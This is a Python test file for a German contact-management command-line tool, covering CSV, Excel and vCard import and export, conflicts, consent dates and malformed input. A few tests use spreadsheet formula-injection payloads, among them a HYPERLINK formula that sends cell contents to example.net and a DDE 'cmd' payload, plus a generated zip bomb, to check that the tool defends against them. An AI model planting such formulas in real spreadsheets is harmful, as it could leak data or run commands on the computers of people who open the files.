"""Address lists and reply lists as offices have them: taken over, shown before, taken over again."""

import csv
import datetime as dt
import io
import time
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from famcli.domain.people.person import Consent, ConsentKind
from famcli.errors import InvalidInput
from famcli.services.people import persons
from famcli.store.repositories import Store
from tests.conftest import Famcli
from tests.kept import Kept
from tests.speed import examples

CARDS = Path(__file__).parents[2] / "exchange" / "cards"
EXCEL = (
    "Anrede;Titel;Vorname;Nachname;E-Mail-Adresse;Firma;Position;Telefon geschäftlich;Straße;PLZ;Ort;Kategorien;Notizen"
    '\r\nFrau;Dr.;Änne;Müller-Größenwahn;AENNE@Example.org;"Stadt Köln; Amt 51";"Leiterin ""Frühe Hilfen""";0221 1;'
    'Domplatz 4;50667;Köln;"netz, west";"Mag Kaffee,\nkeinen Tee"\r\n'
    'Herr;;Şükrü;von der Heide;heide@example.org;;;+49 201 455-1;"Am Ring 1\nHaus B";01067;Dresden;;\r\n;;;;;;;;;;;;\r\n'
)


def person(famcli: Famcli, slug: str) -> Any:
    return famcli(f"person show {slug} --json").json


def lines(famcli: Famcli, call: str, **more: Any) -> list[tuple[int, str, str]]:
    """Import; return number, kind and slug of each line."""
    return [(each["number"], each["kind"], each["slug"]) for each in famcli(f"{call} --json", **more).json]


def kinds(famcli: Famcli, call: str, **more: Any) -> list[str]:
    return [kind for _number, kind, _slug in lines(famcli, call, **more)]


@pytest.mark.parametrize("encoding", ["cp1252", "utf-8", "utf-8-sig", "utf-16"])
def test_what_excel_writes_in_germany(famcli: Famcli, encoding: str) -> None:
    text = EXCEL.replace("Şükrü", "Jürgen") if encoding == "cp1252" else EXCEL
    Path("Kontakte.csv").write_bytes(text.encode(encoding))
    found = lines(famcli, "person import Kontakte.csv --tag 2011")
    other = "juergen" if encoding == "cp1252" else "suekrue"
    assert found == [(2, "new", "aenne-mueller-groessenwahn"), (4, "new", f"{other}-von-der-heide")]
    aenne = person(famcli, "aenne-mueller-groessenwahn")
    assert {key: aenne[key] for key in ("name", "salutation", "email", "organization", "function", "phone")} == {
        "name": "Dr. Änne Müller-Größenwahn",
        "salutation": "frau",
        "email": "aenne@example.org",
        "organization": "Stadt Köln; Amt 51",
        "function": 'Leiterin "Frühe Hilfen"',
        "phone": "0221 1",
    }
    assert (aenne["address"], aenne["tags"]) == ("Domplatz 4\n50667 Köln", ["netz", "west", "2011"])
    assert aenne["notes"] == "Mag Kaffee,\nkeinen Tee"
    assert "Am Ring 1\nHaus B\n01067 Dresden" in {each["address"] for each in famcli("person list --json").json}


def excel(path: str, *rows: tuple[Any, ...]) -> None:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)


def test_a_table_of_excel(famcli: Famcli) -> None:
    excel("Kontakte.xlsx", ("Name", "E-Mail", "PLZ", "Ort"), ("Änne Muster", "aenne@example.org", "01067", "Dresden"))
    assert kinds(famcli, "person import Kontakte.xlsx") == ["new"]
    assert person(famcli, "aenne-muster")["address"] == "01067 Dresden"
    Path("Kontakte.xlsx").rename("Kontakte.bin")
    assert kinds(famcli, "person import Kontakte.bin") == ["same"]


@pytest.mark.parametrize(
    ("name", "slugs"),
    [
        ("outlook-2.1", ["juergen-karl-muster-groessenwahn"]),
        ("apple-3.0", ["erika-maria-mustermann"]),
        ("nextcloud-4.0", ["suekran-celik-uebermaessiglangnamig", "amt-fuer-beispiele"]),
    ],
)
def test_contacts_of_programs(famcli: Famcli, name: str, slugs: list[str]) -> None:
    call = f"person import {CARDS / name}.vcf"
    assert len(kinds(famcli, call)) == len(slugs)
    assert {each["kind"] for each in famcli(f"{call} --json").json} == {"same"}
    assert len(famcli("person list --json").json) == len(slugs)
    assert person(famcli, slugs[0].rpartition("-")[0])["email"].endswith("@example.org")


KNOWN = (
    "Name;Mail;Telefon;Schlagworte\n"
    "Neu Niemand;neu@example.org;;\n"
    "Alt Anders;alt@example.org;0208 2;neu\n"
    "Gleich Geblieben;gleich@example.org;;netz\n"
    "Ganz Anders;gleich@example.org;;\n"
    "Kaputt Adresse;kein@;;\n"
)


@pytest.fixture
def book(famcli: Famcli) -> Famcli:
    """An address book of two, and the list KNOWN."""
    famcli("person add 'Alt Anders' --email alt@example.org --phone '0208 1' --tag netz")
    famcli("person add 'Gleich Geblieben' --email gleich@example.org --tag netz")
    Path("Liste.csv").write_text(KNOWN)
    return famcli


def test_each_line_is_told_apart(book: Famcli, kept: Kept) -> None:
    before = kept.everything()
    assert kinds(book, "person import Liste.csv --dry-run") == ["new", "changed", "same", "conflict", "bad"]
    preview = book("person import Liste.csv --dry-run")
    for words in ("Neu Niemand", "Alt Anders", "Phone (was “0208 1”), Tags", "gleich-geblieben", "kein@"):
        assert words in preview.out
    assert "1 new, 1 updated, 1 unchanged, 1 in conflict, 1 invalid. Nothing was changed" in preview.err
    failed = book("person import Liste.csv", ok=False)
    assert failed.status == 1
    assert "line 5" in failed.err
    assert "line 6" in failed.err
    assert "--skip-errors" in failed.err
    assert kept.everything() == before


def test_the_rest_is_taken_when_told_so(book: Famcli) -> None:
    assert kinds(book, "person import Liste.csv --skip-errors") == ["new", "changed", "same", "conflict", "bad"]
    changed = person(book, "alt-anders")
    assert (changed["phone"], changed["tags"]) == ("0208 2", ["netz", "neu"])
    assert person(book, "gleich-geblieben")["name"] == "Gleich Geblieben"
    assert len(book("person list --json").json) == 3


def test_importing_again_does_no_harm(book: Famcli, kept: Kept) -> None:
    book("person import Liste.csv --skip-errors --tag 2011")
    before = kept.everything()
    assert kinds(book, "person import Liste.csv --skip-errors --tag 2011") == ["same"] * 3 + ["conflict", "bad"]
    assert kept.everything() == before


def test_an_empty_cell_changes_nothing(book: Famcli) -> None:
    Path("leer.csv").write_text("Name,E-Mail,Telefon\nAlt Anders,,\n")
    assert kinds(book, "person import leer.csv") == ["same"]
    assert person(book, "alt-anders")["email"] == "alt@example.org"


def test_columns_with_names_of_their_own(famcli: Famcli) -> None:
    Path("x.csv").write_text("Wer;Dienst=Mail;Egal\nÄnne Muster;aenne@example.org;x\n")
    failed = famcli("person import x.csv", ok=False)
    assert "“Wer”, “Dienst=Mail”, “Egal”" in failed.err
    assert "--map" in failed.err
    result = famcli("person import x.csv --map Wer=name --map Dienst=Mail=email")
    assert "Columns not used: “Egal”" in result.err
    assert person(famcli, "aenne-muster")["email"] == "aenne@example.org"
    for wrong, words in (("Wer=nme", "Unknown field"), ("Werr=name", "no column"), ("Wer", "COLUMN=FIELD")):
        assert words in famcli(["person", "import", "x.csv", "--map", wrong], ok=False).err
    assert famcli(f"person import {CARDS}/apple-3.0.vcf --map Wer=name", ok=False).status == 2


def test_two_people_of_one_name(famcli: Famcli) -> None:
    famcli("person add 'Anna Weiß' --email a@example.org")
    famcli("person add 'Anna Weiß' --email b@example.org")
    Path("x.csv").write_text("Name;E-Mail\nAnna Weiß;\nAnna Weiß;b@example.org\nAnna Weiß;c@example.org\n")
    assert lines(famcli, "person import x.csv --skip-errors") == [
        (2, "conflict", ""), (3, "same", "anna-weiss-2"), (4, "new", "anna-weiss-3"),
    ]  # fmt: skip


def consents(famcli: Famcli, slug: str) -> list[tuple[str, str]]:
    """Return what a person agrees to, with the days."""
    return [(each["kind"], each["date"]) for each in person(famcli, slug)["consents"]]


def test_consents_come_with_their_days(famcli: Famcli) -> None:
    Path("x.csv").write_text("Name;Foto;Kontaktliste;Zitat\nÄnne Muster;ja;12.05.2010;nein\n")
    assert kinds(famcli, "person import x.csv") == ["new"]
    assert consents(famcli, "aenne") == [("contact-list", "2010-05-12"), ("photo", "2011-03-31")]
    exported = famcli("person export -o -").out
    assert '"2010-05-12";"2011-03-31";' in exported
    famcli("person export -o k.csv")
    assert kinds(famcli, "person import k.csv") == ["same"]


def test_yes_again_keeps_the_day_of_a_consent(famcli: Famcli, monkeypatch: pytest.MonkeyPatch) -> None:
    Path("x.csv").write_text("Name;Foto\nÄnne Muster;ja\n")
    famcli("person import x.csv")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1334000000")
    assert kinds(famcli, "person import x.csv") == ["same"]
    assert consents(famcli, "aenne") == [("photo", "2011-03-31")]


def test_a_consent_is_taken_back(famcli: Famcli) -> None:
    Path("x.csv").write_text("Name;Foto;Zitat\nÄnne Muster;12.05.2010;2010-05-12\n")
    famcli("person import x.csv")
    Path("x.csv").write_text("Name;Foto;Zitat\nÄnne Muster;nein;\n")
    assert kinds(famcli, "person import x.csv") == ["changed"]
    assert consents(famcli, "aenne") == [("quotation", "2010-05-12")]
    (withdrawn,) = person(famcli, "aenne")["withdrawn"]
    assert (withdrawn["kind"], withdrawn["until"]) == ("photo", "2011-03-31")
    assert kinds(famcli, "person import x.csv") == ["same"]


FORMULA = '=HYPERLINK("http://example.net/?"&A1;"Klick")'


@pytest.mark.parametrize("cell", [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "＝1+1"])
def test_formulas_are_disarmed_on_the_way_out(famcli: Famcli, cell: str) -> None:
    famcli(["person", "add", "Änne Muster", "--organization", cell, "--function", "'in Anführung"])
    kept = person(famcli, "aenne")["organization"]
    famcli("person export -o k.csv")
    (row,) = csv.reader(io.StringIO(Path("k.csv").read_text("utf-8-sig").partition("\n")[2]), delimiter=";")
    assert row[3] == f"'{kept}"
    famcli("person export --format xlsx -o k.xlsx")
    sheet = openpyxl.load_workbook("k.xlsx").active
    assert (sheet["D2"].value, sheet["D2"].data_type) == (kept, "s")
    for name in ("k.csv", "k.xlsx"):
        assert kinds(famcli, f"person import {name}") == ["same"]


def test_a_formula_in_a_list_stays_text(meeting: Famcli) -> None:
    cell = FORMULA.replace('"', '""')
    Path("x.csv").write_text(f'Name;Antwort;Bemerkung\nÄnne Muster;ja;"{cell}"\n')
    assert kinds(meeting, "attendee import x.csv") == ["new"]
    meeting("attendee export -o l.csv")
    assert f"'{cell}" in Path("l.csv").read_text("utf-8-sig")


DAY = dt.date(2010, 5, 12)
WORDS = st.text(st.sampled_from("aäßŞ1 ;,\"'=+-@\\/:|\n\t.()€😀\u2028"), max_size=12).filter(
    lambda text: not text.lstrip().startswith("'")  # an apostrophe before a formula is taken for write_csv's own
)
NAMES = st.sampled_from(
    [
        "Änne Müller", "Prof. Dr. Anna von der Heide", "Max Muster, M. A.", "Weiß, Anna", "Kim Muster jun.",
        "Amt für Kinder", "O'Brien", "Familienbüro", "Dr. med. Jürgen Groß-Klein", "Şükran Çelik (Stadt Essen)",
    ]
)  # fmt: skip


ADDRESSES = st.sampled_from(
    [
        "Rathaus, Zi. 1 / 12345 Musterstadt",
        "Ring 1 / 1010 Wien / Österreich",
        "c/o Amt / Ring 1 / D-50667 Köln",
        "Ring 1 / 50667 Köln / Deutschland",
    ]
)


@st.composite
def entries(draw: st.DrawFn) -> list[dict[str, Any]]:
    """Return details of a few people, each with an address of their own."""
    number = draw(st.integers(1, 4))
    return [
        {
            "name": draw(NAMES),
            "email": f"p{index}@example.org",
            **{field: draw(WORDS) for field in ("organization", "function", "phone", "notes")},
            "address": draw(WORDS | ADDRESSES),
            "tags": tuple(draw(st.lists(st.sampled_from(["netz", "Land, Bund", "träger 1"]), max_size=2, unique=True))),
            "lang": draw(st.sampled_from(["", "de", "en"])),
            "agreed": draw(st.sampled_from([(), tuple(ConsentKind), (ConsentKind.PHOTO,)])),
        }
        for index in range(number)
    ]


def fill(kept: Kept, people_: list[dict[str, Any]]) -> None:
    with Store(kept.backend()).write("test") as tx:
        for entry in people_:
            try:
                made = persons.add(tx, **{key: value for key, value in entry.items() if key != "agreed"})
            except InvalidInput:
                continue
            consents = tuple(Consent(kind, DAY) for kind in entry["agreed"])
            tx.persons.put(replace(made, consents=consents, certified_since=DAY if consents else None))


@pytest.fixture
def empty(kept: Kept, tmp_path: Path) -> Path:
    """A copy of the store in which nothing is."""
    kept.put_aside(tmp_path / "empty")
    return tmp_path / "empty"


@pytest.mark.slow
@pytest.mark.parametrize("format_", ["csv", "xlsx", "vcard"])
@settings(max_examples=examples(30), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(people_=entries())
def test_what_is_exported_comes_back_the_same(
    famcli: Famcli, kept: Kept, empty: Path, format_: str, people_: list[dict[str, Any]]
) -> None:
    kept.take_from(empty)
    fill(kept, people_)
    before = kept.everything()
    famcli(f"person export --format {format_} -o alle.{format_}")
    found = famcli(f"person import alle.{format_} --format {format_} --json").json
    assert [(each["kind"], each["changes"], each["remark"]) for each in found] == [("same", [], "")] * len(people_)
    assert kept.everything() == before


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("leer.csv", b""),
        ("zahlen.csv", bytes(range(256)) * 40),
        ("bild.csv", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
        ("bild.bin", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"),
        ("falsch.csv", b"\xff\xfeN\0a"),
        ("brief.vcf", b"Sehr geehrte Damen und Herren"),
        ("termin.ics", b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\n"),
        ("post.eml", "Received: from mx\r\nFrom: Änne <a@example.org>\r\n".encode()),
        ("kaputt.xlsx", b"PK\x03\x04" + b"x" * 100),
        ("nur-text.csv", "Lieber Herr Müller,\r\nanbei die Liste.".encode()),
    ],
)
def test_what_is_no_list(famcli: Famcli, name: str, content: bytes) -> None:
    Path(name).write_bytes(content)
    failed = famcli(f"person import {name}", ok=False)
    assert (failed.status, failed.out, failed.err.count("\n")) == (1, "", 1)
    assert "bug" not in failed.err


def test_an_old_excel_file_is_told_apart(famcli: Famcli) -> None:
    Path("Kontakte.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    assert "save it as .xlsx" in famcli("person import Kontakte.xls", ok=False).err


@pytest.mark.slow
def test_a_zip_bomb(famcli: Famcli) -> None:
    excel("klein.xlsx", ("Name",), ("Änne",))
    with zipfile.ZipFile("klein.xlsx") as old, zipfile.ZipFile("gross.xlsx", "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.namelist():
            content = old.read(entry)
            new.writestr(entry, content + b" " * 300_000_000 if "sheet1" in entry else content)
    assert Path("gross.xlsx").stat().st_size < 1_000_000
    begun = time.monotonic()
    failed = famcli("person import gross.xlsx", ok=False)
    assert time.monotonic() - begun < 2
    assert "unpack to" in failed.err


@pytest.mark.slow
def test_ten_thousand_lines(famcli: Famcli) -> None:
    rows = "".join(f"Person{n} Muster;p{n}@example.org;Stadt {n % 100};netz\n" for n in range(10_000))
    Path("viele.csv").write_text(f"Name;E-Mail;Organisation;Tags\n{rows}")
    begun = time.monotonic()
    result = famcli("person import viele.csv")
    assert "10000 new" in result.err
    assert "9800 more lines" in result.err
    assert "10000 unchanged" in famcli("person import viele.csv").err
    assert time.monotonic() - begun < 20
    famcli("person list --search 'person9999'")


def test_a_folder_of_contacts(famcli: Famcli) -> None:
    Path("adressen").mkdir()
    for name, card in (
        ("a.vcf", "FN:Eva Süß\r\nEMAIL:eva@example.org"), ("b.vcf", "FN:Ulf Jäger"), ("c.vcf", "NOTE:x"), ("d.txt", ""),
    ):  # fmt: skip
        Path("adressen", name).write_text(f"BEGIN:VCARD\r\nVERSION:3.0\r\n{card}\r\nEND:VCARD\r\n", encoding="utf-8")
    assert "c.vcf" in famcli("person import adressen --skip-errors").out
    assert sorted(each["name"] for each in famcli("person list --json").json) == ["Eva Süß", "Ulf Jäger"]
    assert kinds(famcli, "person import adressen --skip-errors") == ["same", "same", "bad"]
    Path("daheim").mkdir()
    Path("adressen").rename("daheim/adressen")
    assert kinds(famcli, "person import daheim --skip-errors") == ["same", "same", "bad"]
    Path("leer").mkdir()
    assert ".vcf" in famcli("person import leer", ok=False).err
